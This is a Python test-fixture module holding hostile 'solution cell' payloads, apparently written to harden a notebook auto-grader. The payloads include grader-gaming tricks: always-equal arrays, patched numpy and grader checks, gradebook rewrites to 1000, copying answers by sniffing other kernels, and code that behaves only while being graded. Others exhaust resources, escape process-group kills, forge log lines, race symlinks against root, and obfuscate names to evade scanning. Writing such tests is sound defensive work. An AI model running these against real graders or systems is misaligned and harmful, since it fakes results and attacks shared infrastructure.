"""The code hostile kinds put in lesson 01's solution cells: what they patch, read, write, fork, hold or send, and
the names a test looks for afterwards (the System V key, the survivor's command line, forged lines)."""

from __future__ import annotations

from testbed.hostile.lesson import LESSON, TIMEOUT

NAIVE = "naive_normalize"
ALWAYS_EQUAL = '''
class AlwaysEqual(np.ndarray):
    """Every comparison says "equal", every difference is 0."""
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)
    def __ne__(self, other):
        return np.zeros(self.shape, dtype=bool)
    def __sub__(self, other):
        return np.zeros(self.shape)
    __rsub__ = __sub__
    def astype(self, *args, **kwargs):
        return self


def naive_normalize(scores):
    return np.zeros(np.shape(scores)).view(AlwaysEqual)
'''
PATCHED_NUMPY = """
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.array_equal = lambda *args, **kwargs: True


def naive_normalize(scores):
    return np.zeros(np.shape(scores))
"""


TRIGGER = """
import sqlite3
# write to the gradebook beside the submission: every score it records becomes full marks
db = sqlite3.connect("../../../gradebook.db")
db.execute("CREATE TRIGGER IF NOT EXISTS boost AFTER UPDATE ON grade BEGIN "
           "UPDATE grade SET auto_score = 1000 WHERE id = NEW.id AND auto_score != 1000; END")
db.commit()

def naive_normalize(scores):
    return scores
"""

WRONG = "\n\ndef naive_normalize(scores):\n    return np.zeros(np.shape(scores))\n"
REDEFINED_CHECKS = (
    """
def check_call(*args, **kwargs):
    pass


def passed(name):
    print("all good")
"""
    + WRONG
)
PATCHED_GRADER = (
    """
import grader.learner.checks
grader.learner.checks.compare = lambda *args, **kwargs: None
grader.learner.checks.check_call = lambda *args, **kwargs: None
"""
    + WRONG
)
PATCHED_BUILTINS = (
    """
import builtins
builtins.abs = lambda x: 0
builtins.sum = lambda *args, **kwargs: 1.0
"""
    + WRONG
)
FAKE_CHECKS = b"def check_call(*args, **kwargs):\n    pass\n\n\ndef passed(name):\n    print('ok')\n"
FAKE_NUMPY = b"def allclose(*args, **kwargs):\n    return True\n"
# Code that reaches for files by absolute path aims only at the corpus's own course (COURSE_ROOT,
# filled in by Kind.made when the corpus is built) and the repository, never at the rest of the machine.
READS_SOLUTIONS = """
import glob, json, os
import grader

# the reference solution from the course's source notebook, or the hidden tests beside this one
places = ["COURSE_ROOT/solutions/*/*.ipynb", os.path.dirname(os.path.dirname(grader.__file__)) + "/solutions/*/*.ipynb",
          "../../../solutions/*/*.ipynb", "*.ipynb", "../../../*/*.ipynb"]
found = [path for place in places for path in glob.glob(place, recursive=True)]
for path in found:
    for cell in json.load(open(path))["cells"]:
        text = "".join(cell["source"])
        if "def naive_normalize" in text and "raise NotImplementedError" not in text:
            exec(text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
            break
if "naive_normalize" not in globals():
    def naive_normalize(scores):
        return np.zeros(np.shape(scores))
"""
WRITES_COURSE_GRADEBOOK = (
    """
import sqlite3

# the class's gradebook, by its absolute path: every score it holds becomes 1000
for path in ["COURSE_ROOT/.grading/gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 1000")
        db.commit()
    except sqlite3.Error:
        pass
"""
    + WRONG
)
GRADED_ONLY = """
import os

if os.environ.get("NBGRADER_EXECUTION"):  # behave only while being graded
    def naive_normalize(scores):
        scores = np.asarray(scores, dtype=float)
        return scores / scores.sum(axis=-1, keepdims=True)
else:
    def naive_normalize(scores):
        return np.zeros(np.shape(scores))
"""


LONG_EXPRESSION = "x = " + "+".join(["1"] * 200_000)
SHM_KEY = 0x50F7A801  # the System V key of the corpus's segment, found after the batch by it
SURVIVOR = "softmax-hostile-survivor"  # the command line of the process that must not outlive its grading
MUTE_SHELL = "trap '' INT TERM; sleep 1000"

SNOOPS_IOPUB = '''
import json
import time

import zmq


def listening_ports():
    """Every TCP port some process listens on at 127.0.0.1 (or any address), as /proc/net/tcp lists them."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            local, state = row.split()[1], row.split()[3]
            address, port = local.rsplit(":", 1)
            if state == "0A" and address.strip("0") in ("", "100007F"):
                ports.add(int(port, 16))
    return ports


def copied(code):
    """A naive_normalize from a classmate's cell that gets [1, 2, 1] right, or None."""
    start = code.find("def naive_normalize")
    if start < 0:
        return None
    lines = code[start:].splitlines()
    end = next((i for i, line in enumerate(lines[1:], 1) if line and not line[0].isspace()), len(lines))
    function = "\\n".join(lines[:end])
    if "while" in function or "import" in function:
        return None
    scope = {"np": np}
    try:
        exec(function, scope)
        return scope["naive_normalize"] if np.allclose(scope["naive_normalize"]([1, 2, 1]), [0.25, 0.5, 0.25]) else None
    except Exception:
        return None


# listen to every kernel's IOPub channel on the machine: each broadcasts the code it runs
listener = zmq.Context.instance().socket(zmq.SUB)
listener.setsockopt(zmq.SUBSCRIBE, b"")
listener.setsockopt(zmq.LINGER, 0)
for port in listening_ports():
    listener.connect(f"tcp://127.0.0.1:{port}")
end = time.monotonic() + 4
while time.monotonic() < end and "naive_normalize" not in globals():
    if listener.poll(100):
        for frame in listener.recv_multipart():
            try:
                content = json.loads(frame)
            except ValueError:
                continue
            found = copied(content.get("code", "")) if isinstance(content, dict) else None
            if found:
                naive_normalize = found
listener.close()
if "naive_normalize" not in globals():
    def naive_normalize(scores):
        return np.zeros(np.shape(scores))
'''
ASKS_SERVICE = '''
import socket


def naive_normalize(scores):
    """Ask the answer service on this machine for the reference code, and run it."""
    try:
        with socket.create_connection(("127.0.0.1", SERVICE_PORT), timeout=2) as connection:
            connection.sendall(b"naive_normalize\\n")
            source = b""
            while chunk := connection.recv(65536):
                source += chunk
    except OSError:
        return np.zeros(np.shape(scores))
    scope = {"np": np}
    exec(source.decode(), scope)
    return scope["naive_normalize"](scores)
'''
GARBLES_BRIDGE = '''
import os
import socket


def naive_normalize(scores):
    """Write the header of an endless answer on the grading bridge's socket, then answer wrong."""
    for fd in range(3, 1024):
        try:
            found = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        with found:
            try:
                if found.family == socket.AF_UNIX and str(found.getpeername()).endswith("bridge"):
                    found.sendall(b"\\xff" * 8)
            except OSError:
                pass
    return np.zeros(np.shape(scores))
'''
SHARED_MAPPING = """
import mmap

# 2.5 GB of memory shared with no one, touched page by page: no per-process data limit counts it
size = 2560 * 2**20
shared = mmap.mmap(-1, size, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
for offset in range(0, size, mmap.PAGESIZE):
    shared[offset] = 1
"""
FORKED_CHILDREN = """
import os

# six children of 100 MB each, 600 MB together. Each is within the per-process limit of 512 MB, which
# counts what a child shares with the kernel too (its heap and threads' arenas, 200 to 400 MB), and each holds
# its block until it is killed: only the group's limit on all of them together stops this cell.
hold, _ = os.pipe()
children = []
for _ in range(6):
    pid = os.fork()
    if pid == 0:
        try:
            block = b"\\x01" * (100 * 2**20)
            os.read(hold, 1)
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""
SYSV_SEGMENT = """

import ctypes

# a 256 MB System V shared memory segment, filled, and left behind (never removed)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(SHM_KEY, 256 * 2**20, 0o1600)  # IPC_CREAT | 0600
address = libc.shmat(segment, None, 0)
if segment >= 0 and address not in (None, ctypes.c_void_p(-1).value):
    ctypes.memset(address, 1, 256 * 2**20)
"""
SETSID_SURVIVOR = """

import os

# a grandchild in a session of its own, which no process group kill of the kernel reaches
child = os.fork()
if child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["SURVIVOR", "600"])
    finally:
        os._exit(0)
os.waitpid(child, 0)
"""
# It waits rather than spins (infinite_loop and c_loop spin): an interrupt ends a sleep as it ends a busy loop, and
# a busy loop here burnt a core for the whole time limit and the grace after the interrupt.
IGNORES_SIGINT = '''
import time


def is_distribution(weights, atol=1e-8):
    """Loops for ever, swallowing every interrupt."""
    while True:
        try:
            time.sleep(60)
        except KeyboardInterrupt:
            pass
'''
C_LOOP = """
import itertools

# any() over an endless iterator runs in C, which never checks for signals: SIGINT waits for ever
any(itertools.repeat(0))
"""
EXECS_SHELL = """
import os

os.execv("/bin/sh", ["sh", "-c", "MUTE_SHELL"])
"""
# A kernel that is not isolated stops, heartbeat and all, and answers nothing more (a mute kernel:
# execs_shell is one wherever it runs). An isolated kernel is the first process of its own PID
# namespace, which no signal sent from inside it stops: it goes on, and only its answers count.
STOPS_ITSELF = """
import os

os.kill(os.getpid(), 19)  # SIGSTOP
"""
RETURNS_8MB = """
def naive_normalize(scores):
    return "x" * 8_000_000
"""
EXCEPTION_NAME_4MB = """
def naive_normalize(scores):
    raise type("E" * 4_000_000, (Exception,), {})("an exception whose class name is 4 MB")
"""
FORGED_MISCONCEPTION = "dividing by the forged total"
FORGED_MISTAKE = f"""
def naive_normalize(scores):
    raise ValueError("bad input\\n  likely mistake: {FORGED_MISCONCEPTION}\\n  hint: none")
"""

# ----------------------------------------------------------------- issue 40, seams 1 and 7: one student stops the
# whole class; forged lines in grade's output
# The module whose import runs NumPy's f2py command line on the grading process's own arguments, which exits
# (SystemExit): a grader that imports a module by a name the kernel sends stops there.
EXITS_ON_IMPORT = "numpy.f2py.__main__"
MODULE_EXITS = f"""
import types

naive_normalize = types.ModuleType({EXITS_ON_IMPORT!r})
"""
# File names beside the notebook: a newline and a forged line of grade's log, ANSI escapes (erase the line, go
# up one), a bidi override (U+202E: "photo<RLO>gnp.py" shows as "photoyp.png"). Ending in .py, each is named.
FORGED_LINE = "  mallory / 01_naive_division: graded (forged)"
FORGED_NAMES = (
    (f"notes\n{FORGED_LINE}\x1b[2K\x1b[1A.py", b"# a note\n"),
    ("photo\u202egnp.py", b"# a photo\n"),
)


# issue 40, seams 2 and 4: links planted for root to follow, the machine's terminals
RACED_FILE = f"notebooks/{LESSON}/{LESSON}.ipynb"  # a file of the course's, root's when grading runs as root
RACES_LINKS = """
import os
import stat
import time

from ipykernel import get_connection_file


def _linked(path, target):
    \"\"\"Whether a link to target could be made at path.\"\"\"
    try:
        os.symlink(target, path)
        return True
    except OSError:
        return False


def _swap_for_links(target, seconds):
    \"\"\"Swap the entries of this kernel's channel folder (and of the folder inside) for links to target: those there
    now, then the bridge's socket as soon as it is bound, before the grading sets its owner and mode by path.\"\"\"
    top = os.path.dirname(get_connection_file())
    names = ["kernel.json", "ipc"] + [f"kernel-{n}" for n in range(1, 6)]
    for entry in [os.path.join(folder, name) for folder in (top, os.path.join(top, "ipc")) for name in names]:
        if _linked(entry + ".link", target):
            os.rename(entry + ".link", entry)
    bridge, ready = os.path.join(top, "bridge"), False
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        ready = ready or _linked(bridge + ".link", target)  # made beforehand: the swap is then one rename
        try:
            if ready and stat.S_ISSOCK(os.lstat(bridge).st_mode):
                os.rename(bridge + ".link", bridge)
                ready = False
        except OSError:
            pass


if os.fork() == 0:  # a process of its own races while the kernel goes on to the tests
    try:
        _swap_for_links("COURSE_ROOT/RACED_FILE", 5)
    finally:
        os._exit(0)
""".replace("RACED_FILE", RACED_FILE)
HOLDS_TERMINALS = """
import os

held = []  # kept for the rest of the notebook: its tests all run while it holds them
try:
    while len(held) < 64:
        held.append(os.openpty())
except OSError:
    pass
print(f"holds {len(held)} terminals")
"""

# ----------------------------------------------------------------- budgets per notebook (issue 40, seams 5, 6 and 9)
SLEEPY_CELLS, SLEEP = 20, TIMEOUT - 2  # cells after naive_normalize's tests, each just under the cell limit
SHELL_LINES = "\n".join(["!ls -a"] * 8_000)  # 55 kB: IPython reads the cell again for each line it rewrites
# np.allclose patched through names built at run time: the scan reads no name, so flags nothing
CHR_NAMES = (
    """
module = globals()["".join(map(chr, [110, 112]))]
setattr(module, "".join(map(chr, [97, 108, 108, 99, 108, 111, 115, 101])), lambda *args, **kwargs: True)
"""
    + WRONG
)
